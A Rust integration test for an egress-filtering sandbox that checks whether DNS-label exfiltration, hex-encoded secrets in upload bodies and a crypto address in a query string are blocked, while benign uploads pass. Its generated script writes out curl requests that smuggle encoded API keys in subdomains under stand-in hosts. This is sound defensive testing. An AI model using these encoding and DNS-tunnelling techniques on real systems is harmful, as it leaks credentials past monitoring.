//! Issue 22 on the engine (`#[ignore]`d, run by tests/run.sh with `--ignored`): in one
//! bottle against the fake internet, with a packet capture on every host interface, names
//! whose labels carry data under a wildcard allowlist entry are refused before anything
//! resolves them (the capture never sees them); real-looking CDN and bucket names pass and
//! reach the origin; a burst of new names is capped, and the names pipelock resolves for
//! it are exactly the ones the addon let through; an encoded secret in an octet-stream
//! body and a cryptocurrency address in a query string are refused; a benign corpus passes.

use crate::support::dns_capture::DnsCapture;
use crate::support::engine::{self, Bottle, Internet, docker, docker_try, leftovers};
use std::time::Duration;

const T: Duration = Duration::from_secs(120);

fn manifest(agent: &str) -> String {
    format!(
        r#"{{ "bottles": {{ "dnsdlp": {{
    "egress": {{ "allowlist": ["allowed.test", "*.allowed.test", "*.burst.allowed.test"],
                "private_hosts": ["allowed.test", "*.allowed.test"] }} }} }},
  "agents": {{ "{agent}": {{ "bottle": "dnsdlp" }} }} }}"#
    )
}

/// Names of the shapes real services issue, under `*.allowed.test`: the origin answers
/// them (extra network aliases), the addon must let them through. (Some real names, e.g.
/// `cdk-hnb659fds-assets-123456789012-us-east-1`, pass the addon but not pipelock's own
/// subdomain entropy check: docs/dns.md.)
const REAL_NAMES: &[&str] = &[
    "d2908q01vomqb2.cdn.allowed.test",
    "my-bucket.s3.us-east-1.allowed.test",
    "prod-us-east-1-starport-layer-bucket.s3.allowed.test",
    "productionresultssa0.blob.core.allowed.test",
];

/// Names carrying data under `*.allowed.test` (the issue's shapes): (name, the label text
/// the capture must never show).
const DATA_NAMES: &[(&str, &str)] = &[
    // hex of "secret_api_key"
    (
        "7365637265745f6170695f6b6579.exfil.allowed.test",
        "7365637265745f6170695f6b6579",
    ),
    // base32 of "secret_api_key=1"
    (
        "onswg4tforpwc4djl5vwk6j5ge.exfil.allowed.test",
        "onswg4tforpwc4djl5vwk6j5ge",
    ),
    // hex of an AWS access key id, split over short labels
    (
        "414b4941.494f5346.4f444e4e.37455841.4d504c45.allowed.test",
        "494f5346",
    ),
    // a chain of 8-character base32 labels
    (
        "nv4sa4db.onzxo33s.mqqgs4za.nb2w45df.oizcc.allowed.test",
        "onzxo33s",
    ),
];

/// Runs of new names under `*.burst.allowed.test`: the first 20 pass, the rest are capped.
const BURST: usize = 25;
const CAP: usize = 20;

/// Reconnects the origin to its network with the test hosts and `extra` as aliases.
fn alias_origin(origin: &str, extra: &[&str]) {
    let network = docker(&[
        "inspect",
        "--format",
        "{{range $k, $v := .NetworkSettings.Networks}}{{$k}}{{end}}",
        origin,
    ]);
    docker(&["network", "disconnect", &network, origin]);
    let mut args = vec!["network", "connect"];
    for host in engine::HOSTS.iter().chain(extra) {
        args.extend(["--alias", host]);
    }
    args.extend([network.as_str(), origin]);
    docker(&args);
}

/// The agent's script: each request's status and the addon's reason header, one line each
/// (`NAME STATUS REASON`), then the body cases.
fn script(nonce: &str) -> String {
    let curl = "curl -sS --max-time 30 -o /tmp/body -D /tmp/head -w '%{http_code}'";
    let reason = "$(grep -i '^x-bot-bottle-block-reason' /tmp/head | tr -d '\\r' | cut -d' ' -f2)";
    let mut s = String::from("cd /tmp\n");
    for (name, _) in DATA_NAMES {
        s += &format!("echo \"data {name} $({curl} http://{name}/x) {reason}\"\n");
    }
    s += &format!(
        "echo \"tls {n} $(curl -sS --max-time 30 -o /dev/null -w '%{{http_connect}}' https://{n}/x)\"\n",
        n = DATA_NAMES[0].0
    );
    for name in REAL_NAMES {
        s += &format!("echo \"real {name} $({curl} http://{name}/x) {reason}\"\n");
    }
    for i in 1..=BURST {
        let name = format!("b{i:02}-{nonce}.burst.allowed.test");
        s += &format!("echo \"burst {name} $({curl} http://{name}/x) {reason}\"\n");
    }
    s += BODIES;
    s
}

/// The body cases: an AWS secret key line, hex-encoded inside binary bytes, posted as
/// octet-stream; an Ethereum address in a query string; then the benign corpus (JSON with
/// hashes and UUIDs, a lockfile with integrity hashes, a PNG in base64 JSON, random octets
/// like a git pack, a form) posted to /upload.
const BODIES: &str = r#"python3 - <<'EOF'
import base64, hashlib, json, os, random, uuid, zlib
r = random.Random(22)
line = b"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
open("secret.bin", "wb").write(r.randbytes(500) + b"\n" + line.hex().encode() + b"\n" + r.randbytes(500))
hashes = [hashlib.sha256(bytes([i])).hexdigest() for i in range(50)]
ids = [str(uuid.UUID(int=r.getrandbits(128), version=4)) for _ in range(50)]
open("b-json", "w").write(json.dumps({"items": [{"id": i, "sha256": h} for i, h in zip(ids, hashes)]}))
open("b-lock", "w").write(json.dumps({"packages": {f"node_modules/p{i}": {"integrity": "sha512-" + base64.b64encode(hashlib.sha512(bytes([i])).digest()).decode()} for i in range(50)}}))
png = b"\x89PNG\r\n\x1a\n" + zlib.compress(r.randbytes(20000))
open("b-image", "w").write(json.dumps({"type": "image", "data": base64.b64encode(png).decode()}))
open("b-pack", "wb").write(b"PACK\0\0\0\2" + zlib.compress(r.randbytes(200000)))
open("b-form", "w").write("q=base64+decoding&session=" + ids[0] + "&sum=" + hashes[0])
EOF
c="curl -sS --max-time 60 -o /tmp/body -D /tmp/head -w %{http_code}"
reason() { grep -i '^x-bot-bottle-block-reason' /tmp/head | tr -d '\r' | cut -d' ' -f2; }
echo "body secret $($c -H 'Content-Type: application/octet-stream' --data-binary @secret.bin http://allowed.test/upload) $(reason)"
echo "query eth $($c 'http://allowed.test/pay?to=0x52908400098527886E0F7030069857D2E4169EE7&amount=1') $(reason)"
for f in b-json b-lock b-image b-pack b-form; do
  case $f in b-pack) t=application/x-git-upload-pack-request;; b-form) t=application/x-www-form-urlencoded;; *) t=application/json;; esac
  echo "benign $f $($c -H "Content-Type: $t" --data-binary @$f http://allowed.test/upload) $(reason)"
done
echo SCRIPT-DONE
"#;

/// The agent's result lines as (kind, name) -> (status, reason).
fn results(out: &str) -> Vec<(String, String, String, String)> {
    out.lines()
        .filter_map(|l| {
            let mut w = l.split_whitespace();
            let (kind, name, status) = (w.next()?, w.next()?, w.next()?);
            Some((
                kind.into(),
                name.into(),
                status.into(),
                w.next().unwrap_or("").into(),
            ))
        })
        .collect()
}

#[test]
#[ignore = "needs a Docker engine; tests/run.sh runs it when one answers"]
fn no_data_leaves_in_a_lookup_and_encoded_secrets_are_found() {
    let e = engine::engine();
    let agent = "t-dnsdlp";
    let nonce = format!("n{}", std::process::id());
    let t = e.user(&manifest(agent));
    let mut bottle = Bottle::spawn(&t, &["run", agent, "--", "sleep", "900"]);
    let net = Internet::attach(&e, agent);
    let agent_ctr = bottle.wait_for_attach(T);
    alias_origin(&net.origin, REAL_NAMES);
    let capture = DnsCapture::start();
    let (ok, out) = docker_try(&["exec", &agent_ctr, "sh", "-c", &script(&nonce)]);
    let dns = capture.stop();
    assert!(ok && out.contains("SCRIPT-DONE"), "{out}");
    let rows = results(&out);
    let row = |kind: &str, name: &str| {
        rows.iter()
            .find(|r| r.0 == kind && r.1 == name)
            .unwrap_or_else(|| panic!("no {kind} {name} in {out}"))
    };

    // Data in the labels: refused by the addon, over plain HTTP and at the CONNECT.
    for (name, label) in DATA_NAMES {
        let r = row("data", name);
        assert_eq!((r.2.as_str(), r.3.as_str()), ("403", "host_data"), "{name}");
        assert!(!dns.contains(label), "{name} was looked up:\n{dns}");
    }
    assert_eq!(row("tls", DATA_NAMES[0].0).2, "403");
    // Real-looking names pass and reach the origin.
    for name in REAL_NAMES {
        assert_eq!(row("real", name).2, "200", "{name}: {out}");
    }
    let seen = net.seen();
    for name in REAL_NAMES {
        assert!(
            seen["requests"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r["host"].as_str() == Some(name)),
            "{name} never reached the origin"
        );
    }
    // The burst: 20 new names under the entry pass (pipelock resolves each: the capture
    // sees them leave), the rest are capped and never looked up.
    for i in 1..=BURST {
        let label = format!("b{i:02}-{nonce}");
        let name = format!("{label}.burst.allowed.test");
        let r = row("burst", &name);
        if i <= CAP {
            assert_ne!(r.3, "host_rate", "{name}");
            assert!(dns.contains(&label), "{name}: pipelock's lookup never left");
        } else {
            assert_eq!((r.2.as_str(), r.3.as_str()), ("429", "host_rate"), "{name}");
            assert!(!dns.contains(&label), "{name} was looked up:\n{dns}");
        }
    }
    // Bodies and the query string.
    let r = row("body", "secret");
    assert_eq!(
        (r.2.as_str(), r.3.as_str()),
        ("403", "encoded_secret"),
        "{out}"
    );
    let r = row("query", "eth");
    assert_eq!(r.2, "403", "{out}");
    for f in ["b-json", "b-lock", "b-image", "b-pack", "b-form"] {
        assert_eq!(row("benign", f).2, "200", "{f}: {out}");
    }
    let uploads = seen["requests"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["path"].as_str() == Some("/upload"))
        .count();
    assert_eq!(uploads, 5, "only the benign bodies reached the origin");
    assert!(
        net.pipelock_log()
            .iter()
            .any(|l| l.to_string().contains("Ethereum Address")),
        "pipelock refused the address by its pattern"
    );

    bottle.signal(libc::SIGTERM);
    let (code, _, err) = bottle.finish(T);
    assert_eq!(code, 128 + libc::SIGTERM, "{err}");
    assert_eq!(leftovers(agent), Vec::<String>::new());
}
